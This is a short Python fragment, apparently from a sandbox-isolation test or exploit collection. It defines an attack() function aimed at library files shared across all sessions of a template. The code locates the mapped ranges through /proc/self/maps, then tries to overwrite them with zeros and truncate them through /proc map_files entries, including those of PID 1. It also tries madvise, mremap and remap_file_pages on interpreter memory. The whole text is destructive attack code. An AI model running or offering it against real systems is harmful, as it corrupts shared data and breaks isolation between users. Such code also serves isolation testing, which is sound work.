# goal 1: what libraries write to, which all sessions of a template have from one file
def attack():
    start = ctypes.addressof(ctypes.c_char.in_dll(ctypes.pythonapi, "_PyRuntime")) & -4096
    remove, may_move = 9, 1
    lines = (no_error(lambda: open("/proc/self/maps").read()) or "").splitlines()
    ranges = [line.split()[0] for line in lines if "lair-libraries" in line]
    files = [f"/proc/{p}/map_files/{r}" for r in ranges[:20] for p in ("self", "thread-self", 1)]

    def put(path):
        fd = os.open(path, os.O_RDWR)
        return os.pwrite(fd, b"\0" * 4096, 0) + os.ftruncate(fd, 0)

    if lines and not ranges:
        return "there is no such file"
    return first(
        *(lambda f=f: put(f) for f in files),
        *(lambda f=f: os.truncate(f, 0) for f in files),
        lambda: call("madvise", start, 4096, remove),
        # An old size of 0 is a second mapping of the same, of one that is shared.
        lambda: call("mremap", start, 0, 4096, may_move),
        lambda: call("remap_file_pages", start, 4096, 0, 0, 0),
    )
